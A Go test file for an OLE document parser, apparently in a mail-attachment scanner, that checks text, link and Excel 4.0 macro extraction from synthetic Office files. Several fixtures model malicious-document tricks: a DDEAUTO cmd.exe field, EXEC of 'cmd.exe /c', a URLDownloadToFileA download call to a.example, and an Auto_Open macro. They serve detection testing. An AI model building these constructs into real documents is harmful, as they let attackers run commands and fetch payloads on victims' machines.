package ole_test

import (
	"encoding/binary"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"outrider/internal/attachment/ole"
	"outrider/internal/mailtest"
)

func n16(n int) string { return string(binary.LittleEndian.AppendUint16(nil, uint16(n))) }
func n32(n int) string { return string(binary.LittleEndian.AppendUint32(nil, uint32(n))) }

// part is a piece of text of a Word document.
type part struct {
	text string
	wide bool
}

// wordFiles writes a document of Word 97: a FIB, the pieces, and their table.
func wordFiles(parts ...part) []file {
	const fib = 0x400
	var text, cps, pcds string
	chars := 0
	cps = n32(0)
	for _, p := range parts {
		at, stored := fib+len(text), p.text
		if p.wide {
			stored = wide(p.text)
			pcds += n16(0) + n32(at) + n16(0)
		} else {
			pcds += n16(0) + n32(at*2|0x40000000) + n16(0)
		}
		text += stored
		chars += len([]rune(p.text))
		cps += n32(chars)
	}
	plc := cps + pcds
	table := "\x01" + n16(2) + "xx" + "\x02" + n32(len(plc)) + plc
	head := "\xEC\xA5" + n16(0xC1) + strings.Repeat("\x00", 6) + n16(0x0200) + strings.Repeat("\x00", 20)
	head += n16(14) + strings.Repeat("\x00", 28) + n16(22) + strings.Repeat("\x00", 88) + n16(93)
	head += strings.Repeat("\x00", 8*33) + n32(0) + n32(len(table))
	head += strings.Repeat("\x00", fib-len(head))
	return []file{{"WordDocument", head + text}, {"1Table", table}}
}

// workbookOf writes the globals with one macro sheet, and the sheet.
func workbookOf(globals string, cells ...string) []file {
	head := biff(0x809, n16(0x600)+n16(5)+strings.Repeat("\x00", 12))
	sheet := func(at int) string { return biff(0x85, n32(at)+"\x00\x01\x02\x00M1") }
	end := biff(0x0A, "")
	at := len(head) + len(sheet(0)) + len(globals) + len(end)
	return []file{{"Workbook", head + sheet(at) + globals + end + biff(0x809, n16(0x600)+n16(0x40)+strings.Repeat("\x00", 12)) + strings.Join(cells, "") + end}}
}

// cell writes a formula of tokens.
func cell(row, col int, tokens string) string {
	return biff(6, n16(row)+n16(col)+n16(0)+strings.Repeat("\x00", 8)+n16(0)+n32(0)+n16(len(tokens))+tokens)
}

func str(s string) string           { return "\x17" + string([]byte{byte(len(s))}) + "\x00" + s }
func call(arguments, id int) string { return "\x42" + string([]byte{byte(arguments)}) + n16(id) }
func number(n int) string           { return "\x1E" + n16(n) }
func letter(c byte) string          { return number(int(c)) + "\x41" + n16(111) }
func utf16String(s string) string   { return n32(len(s)+1) + wide(s) + "\x00\x00" }
func linkRecord(flags int, s string) string {
	return biff(0x1B8, strings.Repeat("\x00", 24)+n32(2)+n32(flags)+s)
}

const urlClass = "\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B"

var texts = []struct {
	name  string
	files []file
	want  string
}{
	{"text of 8 bits", wordFiles(part{"Hello\rw\xF6rld\x07", false}), "text Hello\nwörld\t\n"},
	{"text of both kinds", wordFiles(part{"one ", false}, part{"zwölf", true}), "text one zwölf\n"},
	{"a link of a text", wordFiles(part{"see \x13 HYPERLINK \"https://a.example/\" \\t \"_blank\" \x14this\x15.", false}), "link https://a.example/"},
	{"a link behind a switch", wordFiles(part{"\x13 HYPERLINK \\o \"a hint\" \"https://a.example/\" \x14x\x15", false}), "link https://a.example/"},
	{"the text of a link", wordFiles(part{"see \x13 HYPERLINK \"https://a.example/\" \x14this\x15.", true}), "text see this.\n"},
	{"an exchange of a text", wordFiles(part{"\x13 DDEAUTO c:\\\\cmd.exe \"/k x\" \x14!\x15", false}), `action DDEAUTO DDEAUTO c:\\cmd.exe "/k x"`},
	{"a field in a field", wordFiles(part{"\x13 INCLUDETEXT \"\x13 QUOTE 1 \x14http://a.example/\x15\" \x14!\x15", false}), "action INCLUDETEXT INCLUDETEXT"},
	{"shared strings", workbookOf(biff(0xFC, n32(2)+n32(2)+n16(5)+"\x00first"+n16(2)+"\x01"+wide("öä"))), "text first\nöä\n"},
	{"a shared string that goes on", workbookOf(biff(0xFC, n32(1)+n32(1)+n16(8)+"\x00half") + biff(0x3C, "\x01"+wide("ßeit"))), "text halfßeit\n"},
	{"a shared string with formats", workbookOf(biff(0xFC, n32(2)+n32(2)+n16(1)+"\x0C"+n16(1)+n32(3)+"a"+"rrrrxxx"+n16(1)+"\x00b")), "text a\nb\n"},
	{"a label", workbookOf("", biff(0x204, n32(0)+n16(0)+n16(3)+"\x00abc")), "text abc\n"},
	{"a link of a sheet", workbookOf("", linkRecord(3, urlClass+n32(44)+wide("https://a.example/xyz")+"\x00\x00")), "link https://a.example/xyz"},
	{"a named link of a sheet", workbookOf("", linkRecord(0x113, utf16String("shown")+utf16String(`\\a.example\x`))), `link \\a.example\x`},
	{"a program", workbookOf("", cell(0, 0, str("cmd.exe /c x")+call(1, 110))), `macro M1!A1 =EXEC("cmd.exe /c x")`},
	{"a program letter by letter", workbookOf("", cell(2, 27, letter('c')+letter('m')+"\x08"+str("d")+"\x08"+call(1, 110))), `macro M1!AB3 =EXEC("cmd")`},
	{"a call", workbookOf("", cell(1, 0, str("urlmon")+str("URLDownloadToFileA")+str("JJCCJJ")+number(0)+str("https://a.example/x")+call(5, 150))),
		`macro M1!A2 =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://a.example/x")`},
	{"a formula that writes one", workbookOf("", cell(0, 0, str("=HALT()")+"\x44"+n16(4)+n16(1)+call(2, 0x8060))), `macro M1!A1 =FORMULA("=HALT()",B5)`},
	{"operators", workbookOf("", cell(0, 0, "\x44"+n16(0)+n16(1)+number(2)+"\x05"+"\x15"+number(3)+"\x03"+"\x13")), `macro M1!A1 =-(B1*2)+3`},
	{"values", workbookOf("", cell(0, 0, "\x1D\x01"+"\x1F\x00\x00\x00\x00\x00\x00\xF8\x3F"+"\x1C\x2A"+"\x16"+call(4, 1))), `macro M1!A1 =IF(TRUE,1.5,#N/A,)`},
	{"an unknown token", workbookOf("", cell(0, 0, number(1)+"\x18\x01")), `macro M1!A1 =1 #18`},
	{"a name that runs", workbookOf(biff(0x17, n16(1)+n16(0)+n16(0)+n16(0)) + biff(0x18, n16(0x20)+"\x00\x01"+n16(7)+strings.Repeat("\x00", 8)+"\x00\x01"+"\x3A"+n16(0)+n16(3)+n16(2))),
		`macro Auto_Open =M1!C4`},
	{"a name that is called", workbookOf(biff(0x18, n16(0)+"\x00\x02"+n16(0)+strings.Repeat("\x00", 8)+"\x00go"), cell(0, 0, "\x43"+n32(1)+call(1, 53))), `macro M1!A1 =GOTO(go)`},
	{"text of slides", []file{{"PowerPoint Document", "\x00\x00\xA0\x0F" + n32(8) + wide("Ti\rt") + "\x00\x00\xA8\x0F" + n32(4) + "caf\xE9"}}, "text Ti\nt\ncafé\n"},
}

func describeText(d *ole.Document) []string {
	out := append(describe(d), "text "+d.Text)
	for _, f := range d.MacroFormulas {
		out = append(out, "macro "+f.Cell+" "+f.Text)
	}
	return out
}

func TestTexts(t *testing.T) {
	t.Parallel()
	for _, tt := range texts {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			check(t, describeText(ole.Read(build(tt.files...), ole.DefaultLimits())), tt.want)
		})
	}
}

// worstTexts are streams that make much work of each byte.
func worstTexts() map[string][]file {
	pieces := make([]part, 3000) // all the same text
	for k := range pieces {
		pieces[k] = part{"", false}
	}
	overlap := wordFiles(pieces...)
	plc := overlap[1].data[10:]
	cps := []byte(plc[:4*3001])
	for k := range 3001 {
		binary.LittleEndian.PutUint32(cps[4*k:], uint32(k*20000))
	}
	overlap[1].data = overlap[1].data[:10] + string(cps) + plc[4*3001:]
	overlap[0].data += strings.Repeat("\x13 QUOTE ", 2500)
	grow := str("a") + number(1) + strings.Repeat("\x03"+number(1), 2000)
	return map[string][]file{
		"pieces":   overlap,
		"formulas": workbookOf("", slices.Repeat([]string{cell(0, 0, grow)}, 6)...),
		"literals": workbookOf("", cell(0, 0, str(strings.Repeat("\"", 255))+strings.Repeat(str(strings.Repeat("\"", 255))+"\x08", 200))),
		"runs":     workbookOf(biff(0xFC, n32(1)+n32(1)+strings.Repeat("\x00\x00\x0C\xFF\xFF\xFF\xFF\xFF\xFF", 7000))),
	}
}

func TestTextsInTimeAndMemory(t *testing.T) {
	for name, files := range worstTexts() {
		data := build(files...)
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		var d *ole.Document
		took := mailtest.Spent(t, func() { d = ole.Read(data, ole.DefaultLimits()) })
		runtime.ReadMemStats(&after)
		mib := (after.TotalAlloc - before.TotalAlloc) >> 20
		t.Logf("%s: %v, %d MiB allocated for %d KiB", name, took, mib, len(data)>>10)
		if took > 2*time.Second || mib > 128 || len(d.Text) > ole.DefaultLimits().Text {
			t.Errorf("%s: %v, %d MiB, %d bytes of text", name, took, mib, len(d.Text))
		}
	}
}

func FuzzTexts(f *testing.F) {
	for _, s := range texts {
		if len(s.files) > 1 {
			f.Add([]byte(s.files[0].data), []byte(s.files[1].data))
		} else {
			f.Add([]byte(s.files[0].data), []byte{})
		}
	}
	f.Add([]byte(oldBook(cell(0, 0, "\x17\x02ab"))[0].data), []byte{})
	l := ole.DefaultLimits()
	l.Text = 1 << 16
	f.Fuzz(func(t *testing.T, main, table []byte) {
		if len(main)+len(table) > 48<<10 {
			return
		}
		for _, name := range []string{"WordDocument", "Workbook", "Book", "PowerPoint Document", "\x01Ole", "F/o"} {
			d := ole.Read(build(file{name, string(main)}, file{"1Table", string(table)}, file{"0Table", string(table)}), l)
			if len(d.Text) > l.Text {
				t.Errorf("%d bytes of text", len(d.Text))
			}
		}
	})
}
